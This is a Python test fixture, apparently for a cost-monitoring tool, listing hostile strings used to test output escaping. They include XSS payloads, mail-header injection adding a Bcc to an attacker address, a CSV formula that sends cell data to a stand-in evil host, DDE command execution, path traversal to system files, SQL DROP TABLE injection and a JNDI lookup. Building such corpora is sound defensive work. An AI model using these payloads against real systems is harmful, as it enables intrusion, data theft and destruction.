"""The adversarial corpus: strings anyone in the company can put in a tag, a label, a job name, a query,
an account name or the billing currency of an export. Each one is pushed through every output."""

from __future__ import annotations

HOSTILE: dict[str, str] = {
    # HTML / script / templates
    "script": "<script>alert(document.domain)</script>",
    "img-onerror": '"><img src=x onerror=alert(1)>',
    "attr-break": "' onmouseover='alert(1)' x='",
    "js-url": "javascript:alert(1)//",
    "anchor": '<a href="https://evil.example/login">reset your password</a>',
    "svg": "<svg/onload=alert(1)>",
    "style": "<style>body{display:none}</style>",
    "jinja": "{{ 7*7 }}{% for x in range(3) %}{{ config }}{% endfor %}",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp;",
    "comment": "--><!-- <b>",
    # mail headers
    "crlf-bcc": "ops\r\nBcc: attacker@evil.example",
    "lf-subject": "ops\nSubject: you have been pwned",
    "encoded-word": "=?utf-8?q?=0D=0ABcc:_attacker@evil.example?=",
    "header-fold": "x\r\n\tX-Injected: 1",
    # chat: Slack, Mattermost, Rocket.Chat, Teams, Google Chat
    "slack-channel": "<!channel> <https://evil.example|click here>",
    "slack-here": "<!here|here> <!everyone> <@U012AB3CD> <#C123|general>",
    "mentions": "@channel @all @here @everyone @ana",
    "md-link": "[click here](https://evil.example/login)",
    "md-image": "![tracking](https://evil.example/pixel.png)",
    "md-ref": "[docs][1]\n[1]: https://evil.example",
    "teams-at": '<at>Everyone</at> <at id="0">CFO</at>',
    "gchat": "<users/all> <https://evil.example|verify>",
    "autolink": "<https://evil.example> <mailto:ceo@example.com>",
    "md-format": "**APPROVED** by ~finance~ `rm -rf /` > quoted",
    # terminal
    "ansi-clear": "\x1b[2J\x1b[H\x1b[31mRED ALERT\x1b[0m",
    "osc52": "\x1b]52;c;ZWNobyBwd25lZA==\x07",
    "osc8": "\x1b]8;;https://evil.example\x1b\\trusted.example\x1b]8;;\x1b\\",
    "cr-overwrite": "ok\rFORGED",
    "c1-csi": "\x9b31mC1\x9b0m",
    "bidi": "invoice\u202egpj.exe\u202c",
    "zero-width": "ad\u200bmin\u2060\ufeff",
    "line-separator": "one\u2028two\u2029three",
    "bell-backspace": "bell\x07 back\x08\x08\x08",
    # CSV formulas
    "csv-hyperlink": '=HYPERLINK("https://evil.example/?d="&A1,"click")',
    "csv-dde": "=cmd|' /C calc'!A0",
    "csv-plus": "+SUM(1+1)",
    "csv-minus": "-2+3+cmd|' /C calc'!A0",
    "csv-at": "@SUM(1+1)",
    "csv-tab": "\t=1+1",
    # matplotlib math text
    "math": "$x^2$",
    "math-broken": "$\\frac{$",
    "math-unknown": "$\\undefinedcommand$",
    "dollars": "$$$",
    # paths
    "path-up": "../../../../etc/passwd",
    "path-win": "..\\..\\windows\\system32\\config",
    "path-abs": "/var/lib/spendwatch/store.duckdb",
    "path-nul": "name\x00.eml",
    # SQL
    "sql-drop": "'; DROP TABLE cost_lines; --",
    "sql-or": '" OR 1=1 --',
    "sql-bobby": "Robert'); DROP TABLE anomalies;--",
    # format strings and lookups
    "format": "%s%s%s%n {0.__class__} {}",
    "jndi": "${jndi:ldap://evil.example/a}",
    "env-lookup": "${SMTP_PASSWORD}",
    # size and encoding
    "long": "A" * 100_000,
    "long-emoji": "😀" * 5_000,
    "surrogate": "caf\udce9 \udcff",  # undecodable bytes kept by surrogateescape
    "replacement": "\ufffd\ufffe\uffff",
    "nul": "\x00",
    "empty": "",
    "whitespace": " \t \u00a0 ",
}
